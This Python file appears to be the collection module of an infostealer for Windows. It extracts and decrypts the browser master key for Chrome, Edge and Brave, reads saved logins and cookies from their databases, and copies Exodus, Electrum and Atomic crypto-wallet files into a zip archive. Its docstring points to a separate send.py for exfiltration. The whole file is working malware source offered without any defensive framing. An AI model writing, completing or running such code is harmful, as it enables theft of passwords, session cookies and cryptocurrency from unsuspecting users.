"""Gathers browser profiles and wallets into one archive (no network here: see send.py)."""
import base64
import json
import os
import shutil
import sqlite3
import tempfile
import zipfile

LOCAL = os.getenv("LOCALAPPDATA", "")
ROAMING = os.getenv("APPDATA", "")

BROWSERS = {
    "chrome": os.path.join(LOCAL, "Google", "Chrome", "User Data"),
    "edge": os.path.join(LOCAL, "Microsoft", "Edge", "User Data"),
    "brave": os.path.join(LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
}
WALLETS = {
    "Exodus": os.path.join(ROAMING, "Exodus", "exodus.wallet"),
    "Electrum": os.path.join(ROAMING, "Electrum", "wallets"),
    "Atomic": os.path.join(ROAMING, "atomic", "Local Storage", "leveldb"),
}


def _master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as fh:
        state = json.load(fh)
    encrypted = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
    import win32crypt

    return win32crypt.CryptUnprotectData(encrypted, None, None, None, 0)[1]


def _logins(root, out):
    db = os.path.join(root, "Default", "Login Data")
    copy = os.path.join(out, "logins.db")
    shutil.copy2(db, copy)
    con = sqlite3.connect(copy)
    try:
        return con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    finally:
        con.close()


def _cookies(root, out):
    db = os.path.join(root, "Default", "Network", "Cookies")
    copy = os.path.join(out, "cookies.db")
    shutil.copy2(db, copy)
    con = sqlite3.connect(copy)
    try:
        return con.execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    finally:
        con.close()


def collect() -> str:
    out = tempfile.mkdtemp(prefix="cs")
    report = {}
    for name, root in BROWSERS.items():
        if not os.path.isdir(root):
            continue
        try:
            report[name] = {
                "key": base64.b64encode(_master_key(root)).decode(),
                "logins": [[u, n, base64.b64encode(p).decode()] for u, n, p in _logins(root, out)],
                "cookies": [[h, n, base64.b64encode(v).decode()] for h, n, v in _cookies(root, out)],
            }
        except Exception:
            continue
    archive = os.path.join(out, "report.zip")
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("browsers.json", json.dumps(report))
        for wallet, path in WALLETS.items():
            if os.path.isdir(path):
                for base, _, files in os.walk(path):
                    for f in files:
                        full = os.path.join(base, f)
                        zf.write(full, os.path.join(wallet, os.path.relpath(full, path)))
    return archive
